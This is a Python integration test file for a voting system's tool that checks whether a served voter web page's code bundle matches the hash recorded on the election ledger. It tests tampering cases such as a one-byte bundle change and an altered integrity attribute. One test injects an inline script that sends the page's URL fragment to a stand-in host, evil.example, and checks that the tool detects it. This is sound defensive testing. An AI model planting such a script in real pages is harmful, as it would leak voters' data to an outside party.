"""`votestore web check` against a real 4-node LocalNet and a real `votestore web serve` process.

The election definition on the ledger names the bundle's SHA-256; the check passes only when the
page origin serves those bytes under an integrity attribute a browser would accept for them.
The attacks: a served bundle changed by one byte; an index.html whose integrity attribute was
changed (so a browser would refuse the genuine bundle, or accept other code); an inline script
added beside the genuine one; and, offline, a bundle file at hand that differs.
"""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import pytest

from ops.cluster import LocalNet
from ops.cluster.election import create
from ops.cluster.page import PageProcess
from ops.cluster.process import ClusterError
from ops.cluster.trustees import new_trustees
from ops.roles import ElectionRoles
from proto.votestore.v1 import election_pb2
from tests.web.bundle_kit import build_page
from votestore import txbuild
from votestore.client.node import NodeClient

pytestmark = pytest.mark.cluster

ELECTION: Final = "page-2026"
BARE: Final = "cli-only-2026"
BRIDGE: Final = "http://127.0.0.1:7180"
CLI_TIMEOUT_S: Final = 60


@dataclass
class Chain:
    net: LocalNet
    built: Path
    sha256: str
    workdir: Path

    def serve(self, folder: Path) -> PageProcess:
        return PageProcess(self.workdir, folder, BRIDGE, self.net.genesis_path)


def _definition(election_id: str, roles: ElectionRoles, digest: bytes) -> election_pb2.ElectionCreate:
    now = int(time.time() * 1000)
    definition = election_pb2.ElectionCreate(
        election_id=election_id,
        title="Page check",
        contests=[txbuild.contest("mayor", ["ada", "grace"], 1, 1)],
        window_start_ms=now,
        window_end_ms=now + 3600 * 1000,
        trustees=[t.public for t in new_trustees(1)],
        threshold=1,
        deal_deadline_ms=now + 600_000,
        complaint_window_ms=1_000,
        app_bundle_sha256=digest,
    )
    return roles.name_in(definition)


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chain]:
    workdir = tmp_path_factory.mktemp("check")
    built = workdir / "dist"
    manifest = build_page(built)
    digest = bytes.fromhex(manifest["app_bundle_sha256"])
    roles = ElectionRoles.create(workdir)
    with LocalNet.create(workdir / "net") as net:
        net.start_all()
        net.wait_ready()
        with NodeClient(net.addresses, connect=net.connect) as node:
            create(node, net.genesis.chain_id, net.admin_key, _definition(ELECTION, roles, digest))
            create(node, net.genesis.chain_id, net.admin_key, _definition(BARE, roles, b""))
        yield Chain(net, built, manifest["app_bundle_sha256"], workdir)


def web_check(chain: Chain, *args: str | Path, election: str = ELECTION) -> subprocess.CompletedProcess[str]:
    nodes = [part for address in chain.net.addresses for part in ("--node", address)]
    return subprocess.run(
        [sys.executable, "-m", "votestore", "web", "check", *nodes, "--election", election, *map(str, args)],
        capture_output=True,
        text=True,
        timeout=CLI_TIMEOUT_S,
        check=False,
        stdin=subprocess.DEVNULL,
    )


def copy_of(chain: Chain, name: str) -> Path:
    folder = chain.workdir / name
    shutil.copytree(chain.built, folder)
    return folder


def remanifest(folder: Path) -> None:
    """Make the manifest describe the folder as it now is: what an operator who swaps the code on
    purpose would do, so that `web serve` serves it."""
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    for entry in manifest["files"]:
        data = (folder / entry["file"]).read_bytes()
        entry["sha256"] = hashlib.sha256(data).hexdigest()
        entry["integrity"] = "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()
        entry["bytes"] = len(data)
    manifest["app_bundle_sha256"] = hashlib.sha256((folder / "app.js").read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def one_error(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 1, (done.stdout, done.stderr)
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), done.stderr
    assert done.stdout == ""
    return lines[0]


def test_the_genuine_page_passes(chain: Chain) -> None:
    with chain.serve(chain.built) as page:
        done = web_check(chain, "--url", f"{page.origin}/")
        as_json = web_check(chain, "--url", f"{page.origin}/", "--json")
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("\n") == 1 and done.stdout.startswith("ok: served bundle ")
    assert chain.sha256 in done.stdout
    report = json.loads(as_json.stdout)
    assert report["ok"] is True and report["app_bundle_sha256"] == chain.sha256
    assert report["checked"][0]["sha256"] == chain.sha256
    assert report["checked"][0]["source"] == f"served bundle {page.origin}/app.js"


def test_a_bundle_changed_by_one_byte_fails_naming_both_hashes(chain: Chain) -> None:
    folder = copy_of(chain, "one-byte")
    data = bytearray((folder / "app.js").read_bytes())
    data[-2] ^= 0x01
    (folder / "app.js").write_bytes(bytes(data))
    changed = hashlib.sha256(bytes(data)).hexdigest()
    index = (folder / "index.html").read_text(encoding="utf-8")
    old = (
        "sha384-" + base64.b64encode(hashlib.sha384((chain.built / "app.js").read_bytes()).digest()).decode()
    )
    new = "sha384-" + base64.b64encode(hashlib.sha384(bytes(data)).digest()).decode()
    (folder / "index.html").write_text(
        index.replace(old, new), encoding="utf-8"
    )  # consistent: a browser runs it
    remanifest(folder)
    with chain.serve(folder) as page:
        line = one_error(web_check(chain, "--url", f"{page.origin}/"))
    assert line == (
        f"error: served bundle {page.origin}/app.js has sha256 {changed}; "
        f"the election definition names app_bundle_sha256 {chain.sha256}"
    )


def test_an_index_whose_integrity_attribute_was_changed_fails(chain: Chain) -> None:
    folder = copy_of(chain, "integrity")
    bundle = (chain.built / "app.js").read_bytes()
    genuine = "sha384-" + base64.b64encode(hashlib.sha384(bundle).digest()).decode()
    other = "sha384-" + base64.b64encode(hashlib.sha384(b"other code").digest()).decode()
    index = (folder / "index.html").read_text(encoding="utf-8")
    (folder / "index.html").write_text(index.replace(genuine, other), encoding="utf-8")
    remanifest(folder)
    with pytest.raises(ClusterError, match=r"index\.html.s script is not a listed file with its integrity"):
        chain.serve(folder).start()  # `web serve` itself refuses it; a plain file server does not
    line = _check_raw_page(chain, folder)
    assert line == (
        f"error: {{url}}'s integrity attribute is {other}; the bundle with the definition's "
        f"app_bundle_sha256 {chain.sha256} has {genuine}"
    )


def _check_raw_page(chain: Chain, folder: Path) -> str:
    """Serve `folder` as plain files (another server, which checks nothing) and run the check."""
    server = subprocess.Popen(
        [sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory", str(folder)],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        stdin=subprocess.DEVNULL,
        text=True,
    )
    try:
        assert server.stdout is not None
        banner = server.stdout.readline()  # "Serving HTTP on 127.0.0.1 port N (http://127.0.0.1:N/) ..."
        url = banner.split("(", 1)[1].split(")", 1)[0]
        return one_error(web_check(chain, "--url", url)).replace(url, "{url}")
    finally:
        server.terminate()
        server.wait(10)


def test_an_added_inline_script_fails(chain: Chain) -> None:
    folder = copy_of(chain, "inline")
    index = (folder / "index.html").read_text(encoding="utf-8")
    (folder / "index.html").write_text(
        index.replace("</head>", "<script>fetch('https://evil.example/'+location.hash)</script>\n</head>"),
        encoding="utf-8",
    )
    assert _check_raw_page(chain, folder) == "error: index.html holds inline script code"


def test_a_bundle_file_at_hand(chain: Chain, tmp_path: Path) -> None:
    done = web_check(chain, "--file", chain.built / "app.js")
    assert done.returncode == 0 and f"(sha256 {chain.sha256})" in done.stdout, done.stderr
    other = tmp_path / "app.js"
    other.write_bytes((chain.built / "app.js").read_bytes() + b"\n")
    line = one_error(web_check(chain, "--file", other))
    assert chain.sha256 in line and hashlib.sha256(other.read_bytes()).hexdigest() in line


def test_an_election_that_names_no_bundle(chain: Chain) -> None:
    line = one_error(web_check(chain, "--file", chain.built / "app.js", election=BARE))
    assert line == f"error: election {BARE!r} names no app bundle (app_bundle_sha256 is unset)"


def test_neither_url_nor_file(chain: Chain) -> None:
    assert (
        one_error(web_check(chain))
        == "error: give --url (a served page) or --file (a bundle at hand), or both"
    )


def test_election_show_names_the_bundle(chain: Chain) -> None:
    nodes = ["--node", chain.net.addresses[0]]
    shown = {}
    for election in (ELECTION, BARE):
        done = subprocess.run(
            [sys.executable, "-m", "votestore", "election", "show", *nodes, "--election", election, "--json"],
            capture_output=True,
            text=True,
            timeout=CLI_TIMEOUT_S,
            check=True,
        )
        shown[election] = json.loads(done.stdout)["app_bundle_sha256"]
    assert shown == {ELECTION: chain.sha256, BARE: None}
    text = subprocess.run(
        [sys.executable, "-m", "votestore", "election", "show", *nodes, "--election", ELECTION],
        capture_output=True,
        text=True,
        timeout=CLI_TIMEOUT_S,
        check=True,
    ).stdout
    assert f"voter page {chain.sha256}" in text
